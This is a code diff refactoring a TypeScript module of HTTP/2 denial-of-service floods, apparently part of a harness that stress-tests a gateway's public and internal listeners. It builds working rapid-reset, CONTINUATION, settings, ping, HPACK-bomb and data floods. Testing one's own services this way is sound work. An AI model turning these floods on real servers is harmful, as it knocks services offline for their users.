@@ -1,6 +1,5 @@
 // HTTP/2 floods: streams reset at once, and frames that cost the gateway more than their sender.
 
-import type { Socket } from "node:net";
 import {
   CONTINUATION,
   data,
@@ -15,15 +14,12 @@ import {
   resetStream,
   settings,
 } from "../frames.ts";
-import { framesOf, get } from "../http2-requests.ts";
-import { openSocket, writeAll } from "./connections.ts";
-import { LOGIN_BODY, login } from "./requests.ts";
-import { type Attack, type AttackPlan, forEachIndex } from "./target.ts";
+import { type AttackPlan, forEachIndex, openSocket, writeAll } from "./attack.ts";
+import { framesOf, get, LOGIN, LOGIN_BODY } from "./requests.ts";
 
 const LANES = 8;
 const MOST_REFUSED = 20;
 const STUCK_MS = 2_000;
-const GREETING = Buffer.concat([PREFACE, settings()]);
 
 /** A flood of units, which are streams or frames. */
 interface Flood {
@@ -35,61 +31,44 @@ interface Flood {
   readonly opening?: Buffer;
   /** The bytes of a connection's unit. */
   readonly unit: (index: number) => Buffer;
-  /** The most units of a connection, for floods of streams. */
-  readonly unitsPerConnection?: number;
   /** Whether it reads what the gateway sends; true when absent. */
   readonly reads?: boolean;
 }
 
-/** Sends `count` units over a few connections, at both listeners in turn. Reconnects after the gateway ends a connection. */
-function flood({
-  count,
-  size,
-  unit,
-  opening = Buffer.alloc(0),
-  unitsPerConnection = 1e9,
-  reads = true,
-}: Flood): AttackPlan {
-  const batch = (first: number): Buffer =>
-    Buffer.concat(Array.from({ length: size }, (_, index) => unit(first + index)));
-  const run: Attack = async (target, count, findings) => {
-    let sent = 0;
-    await forEachIndex(LANES, LANES, async (lane) => {
-      const url = lane % 2 === 0 ? target.publicUrl : target.internalUrl;
-      let refused = 0;
-      while (sent < count && refused < MOST_REFUSED) {
-        const socket = await openSocket(url, lane);
-        if (socket === undefined) {
-          refused++;
-          continue;
-        }
-        refused = 0;
-        if (reads) socket.resume();
-        else socket.pause();
-        await writeAll(socket, Buffer.concat([GREETING, opening]));
-        for (let units = 0; units < unitsPerConnection && sent < count && !socket.destroyed; units += size) {
-          sent += size;
-          await writeUnlessStuck(socket, batch(units));
-        }
-        socket.destroy();
-      }
-    });
-    if (sent < count) findings.add(`connections were refused after ${sent}`);
-  };
-  return { count, run };
-}
-
-/** Writes, unless the gateway reads no more: then the flood is stopped and the connection is closed. */
-async function writeUnlessStuck(socket: Socket, bytes: Buffer): Promise<void> {
-  const timer = setTimeout(() => socket.destroy(), STUCK_MS);
-  await writeAll(socket, bytes);
-  clearTimeout(timer);
-}
-
 /** Node takes stream numbers up to 2^31. */
-const STREAMS = 10_000;
-const PAGE = 16 * 1024;
+const UNITS_OF_CONNECTION = 10_000;
 
+/** Sends `count` units over a few connections, at both listeners in turn. Reconnects after the gateway ends a connection. */
+function flood({ count: fullCount, size, unit, opening = Buffer.alloc(0), reads = true }: Flood): AttackPlan {
+  return {
+    count: fullCount,
+    async run(target, count, findings) {
+      let sent = 0;
+      await forEachIndex(LANES, LANES, async (lane) => {
+        const url = lane % 2 === 0 ? target.publicUrl : target.internalUrl;
+        for (let refused = 0; sent < count && refused < MOST_REFUSED; ) {
+          const socket = await openSocket(url, lane);
+          refused = socket === undefined ? refused + 1 : 0;
+          if (socket === undefined) continue;
+          if (reads) socket.resume();
+          else socket.pause();
+          await writeAll(socket, Buffer.concat([PREFACE, settings(), opening]));
+          for (let units = 0; units < UNITS_OF_CONNECTION && sent < count && !socket.destroyed; units += size) {
+            sent += size;
+            // The gateway may read no more.
+            const timer = setTimeout(() => socket.destroy(), STUCK_MS);
+            await writeAll(socket, Buffer.concat(Array.from({ length: size }, (_, index) => unit(units + index))));
+            clearTimeout(timer);
+          }
+          socket.destroy();
+        }
+      });
+      if (sent < count) findings.add(`connections were refused after ${sent}`);
+    },
+  };
+}
+
+const PAGE = 16 * 1024;
 const streamOf = (unit: number): number => 2 * unit + 1;
 
 /** A literal with incremental indexing (RFC 7541, section 6.2.1), name and value shorter than 127 bytes each. */
@@ -103,52 +82,40 @@ const ENTRY = Buffer.concat([Buffer.of(0x82, 0x86, 0x84), indexed("x".repeat(100
 const NEWEST = 0xbe;
 
 function bomb(unit: number): Buffer {
-  const head = unit === 0 ? ENTRY : ENTRY.subarray(0, 3);
-  return frame(
-    HEADERS,
-    END_STREAM | END_HEADERS,
-    streamOf(unit),
-    Buffer.concat([head, Buffer.alloc(PAGE - 400, NEWEST)]),
-  );
+  const block = Buffer.concat([unit === 0 ? ENTRY : ENTRY.subarray(0, 3), Buffer.alloc(PAGE - 400, NEWEST)]);
+  return frame(HEADERS, END_STREAM | END_HEADERS, streamOf(unit), block);
 }
 
-function resetAtOnce(index: number): Buffer {
-  const stream = streamOf(index);
-  return Buffer.concat([framesOf(stream, index % 2 === 0 ? login() : get("/openapi.json")), resetStream(stream)]);
+function resetAtOnce(unit: number): Buffer {
+  const stream = streamOf(unit);
+  return Buffer.concat([framesOf(stream, unit % 2 === 0 ? LOGIN : get("/openapi.json")), resetStream(stream)]);
 }
 
 /** More bytes than a login may have, within the flow-control window. */
-function pageOf(index: number): Buffer {
-  const stream = streamOf(index);
-  return Buffer.concat([
-    openStream(stream, login().headers, false),
-    data(stream, Buffer.alloc(PAGE, LOGIN_BODY), false),
-  ]);
+function pageOf(unit: number): Buffer {
+  const stream = streamOf(unit);
+  return Buffer.concat([openStream(stream, LOGIN.headers, false), data(stream, Buffer.alloc(PAGE, LOGIN_BODY), false)]);
 }
 
-const FLOODED: Readonly<Record<string, Flood>> = {
-  "rapid-reset": { count: 100_000, size: 100, unitsPerConnection: STREAMS, unit: resetAtOnce },
-  "continuation-flood": {
+/** By attack; the count is of streams or frames. */
+export const FLOODS: Readonly<Record<string, AttackPlan>> = {
+  "rapid-reset": flood({ count: 100_000, size: 100, unit: resetAtOnce }),
+  "continuation-flood": flood({
     count: 100_000,
     size: 50,
     opening: openStreamInParts(1, get("/auth/time").headers)[0],
     unit: (index) => frame(CONTINUATION, 0, 1, Buffer.alloc(index % 2 === 0 ? 1024 : 0, NEWEST)),
-  },
-  "settings-flood": { count: 200_000, size: 500, unit: () => settings(65_535) },
-  "settings-flood-unread": { count: 200_000, size: 500, reads: false, unit: () => settings(1) },
-  "ping-flood": { count: 200_000, size: 500, unit: ping },
-  "ping-flood-unread": { count: 200_000, size: 500, reads: false, unit: ping },
-  "hpack-bombs": { count: 10_000, size: 10, unitsPerConnection: STREAMS, unit: bomb },
-  "empty-data": {
+  }),
+  "settings-flood": flood({ count: 200_000, size: 500, unit: () => settings(65_535) }),
+  "settings-flood-unread": flood({ count: 200_000, size: 500, reads: false, unit: () => settings(1) }),
+  "ping-flood": flood({ count: 200_000, size: 500, unit: ping }),
+  "ping-flood-unread": flood({ count: 200_000, size: 500, reads: false, unit: ping }),
+  "hpack-bombs": flood({ count: 10_000, size: 10, unit: bomb }),
+  "empty-data": flood({
     count: 200_000,
     size: 500,
-    opening: openStream(1, login().headers, false),
+    opening: openStream(1, LOGIN.headers, false),
     unit: () => data(1, Buffer.alloc(0), false),
-  },
-  "data-flood": { count: 20_000, size: 4, unitsPerConnection: STREAMS, unit: pageOf },
+  }),
+  "data-flood": flood({ count: 20_000, size: 4, unit: pageOf }),
 };
-
-/** By attack; the count is of streams or frames. */
-export const FLOODS: Readonly<Record<string, AttackPlan>> = Object.fromEntries(
-  Object.entries(FLOODED).map(([name, one]) => [name, flood(one)]),
-);
